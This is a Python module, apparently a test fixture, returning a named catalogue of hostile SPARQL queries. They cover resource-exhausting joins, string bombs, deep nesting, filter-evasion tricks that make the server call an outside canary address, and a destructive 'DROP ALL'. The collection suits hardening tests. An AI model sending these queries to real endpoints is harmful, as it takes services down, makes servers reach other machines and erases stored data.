"""Queries made to bring a SPARQL service down: by time, memory, depth, the planner, or the network."""

from collections.abc import Mapping

_BOMB = " ".join(f"BIND(REPLACE(?x{at}, 'a', ?x{at}) AS ?x{at + 1})" for at in range(6))
_WIDE = " ; ".join(f"?p{at} ?o{at}" for at in range(128))
_ALL = "?a ?b ?c . ?d ?e ?f"


def attacks(canary: str) -> Mapping[str, str]:
    """Return attacks by name; those that would reach another machine try this address."""
    return {
        "three crossed": f"SELECT (COUNT(*) AS ?n) {{ {_ALL} . ?g ?h ?i }}",
        "crossed in a subselect": f"SELECT * {{ {{ SELECT (MAX(?c) AS ?m) {{ {_ALL} }} }} }}",
        "crossed and constructed": f"CONSTRUCT {{ ?a ?e ?f }} WHERE {{ {_ALL} }}",
        "crossed and described": f"DESCRIBE ?a ?d WHERE {{ {_ALL} }}",
        "crossed unions": "SELECT * { " + "{ ?a ?b ?c } UNION { ?d ?e ?f } " * 8 + "} ORDER BY ?c",
        "sorted by chance": f"SELECT * {{ {_ALL} }} ORDER BY RAND()",
        "distinct pairs": f"SELECT (COUNT(DISTINCT CONCAT(STR(?a), STR(?d))) AS ?n) {{ {_ALL} }}",
        "grouped pairs": f"SELECT ?a ?f (SAMPLE(?c) AS ?s) {{ {_ALL} }} GROUP BY ?a ?f HAVING (COUNT(*) > 1)",
        "not exists over a join": (
            "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?b ?f FILTER NOT EXISTS { ?c ?x ?y . ?y ?z ?a } }"
        ),
        "minus crossed": f"SELECT * {{ {_ALL} MINUS {{ ?f ?g ?h . ?i ?j ?k }} }}",
        "any path": "SELECT (COUNT(*) AS ?n) { ?a (<urn:x>|!<urn:y>)+ ?b . ?b (<urn:x>|!<urn:y>)+ ?c }",
        "path both ways": "SELECT DISTINCT ?a ?b { ?a (!<urn:y>|^!<urn:y>)* ?b }",
        "values crossed": "SELECT (COUNT(*) AS ?n) { "
        + "".join(f"VALUES ?v{at} {{ {' '.join(map(str, range(200)))} }} " for at in range(6))
        + "}",
        "replace bomb": f"SELECT (STRLEN(?x6) AS ?n) {{ BIND('{'a' * 40}' AS ?x0) {_BOMB} }}",
        "hash of a bomb": f"SELECT (SHA512(?x5) AS ?n) {{ BIND('{'a' * 60}' AS ?x0) {_BOMB} }}",
        "one long text": f"SELECT (GROUP_CONCAT(STR(?c); separator='{'x' * 5000}') AS ?t) {{ {_ALL} }}",
        "wide star": f"SELECT * {{ ?s {_WIDE} }}",
        "brackets for the planner": "SELECT * { ?s ?p ?o FILTER(" + "(" * 256 + "1" + ")" * 256 + ") }",
        "deep exists": "SELECT * { ?s ?p ?o " + "FILTER EXISTS { ?s ?p ?o " * 50 + "}" * 50 + " }",
        "deep optional": "SELECT * { ?a ?b ?c " + "OPTIONAL { ?d ?e ?f " * 50 + "}" * 50 + " }",
        "deep subselects": "SELECT * { " + "{ SELECT * { ?s ?p ?o . ?x ?y ?z " * 25 + "} }" * 25 + " }",
        "long number": f"SELECT ({'9' * 60_000} * {'9' * 100} AS ?n) {{}}",
        "long in": "SELECT * { ?s ?p ?o FILTER(?o IN (" + ", ".join(map(str, range(10_000))) + ")) }",
        "escapes": "SELECT * { ?s ?p '" + "\\u00e5" * 9_000 + "' }",
        "nothing closes": "SELECT * { ?s ?p '" + "x" * 60_000,
        "zero byte": "SELECT * { ?s ?p '\x00' }",
        "service": f"SELECT * {{ SERVICE <{canary}> {{ ?s ?p ?o }} }}",
        "service silent": f"SELECT * {{ SERVICE SILENT <{canary}> {{ ?s ?p ?o }} }}",
        "service in disguise": f"SELECT * {{ \\u0053ERVICE <{canary}> {{ ?s ?p ?o }} }}",
        "service by variable": f"SELECT * {{ BIND(<{canary}> AS ?e) SERVICE ?e {{ ?s ?p ?o }} }}",
        "service behind less-than": (
            f'SELECT * {{ FILTER(?o<?c#>"""\n)SERVICE <{canary}> {{ ?s ?p ?o }} #"""\n }}'
        ),
        "from": f"SELECT * FROM <{canary}> {{ ?s ?p ?o }}",
        "load": f"LOAD <{canary}>",
        "an update": "DROP ALL",
    }
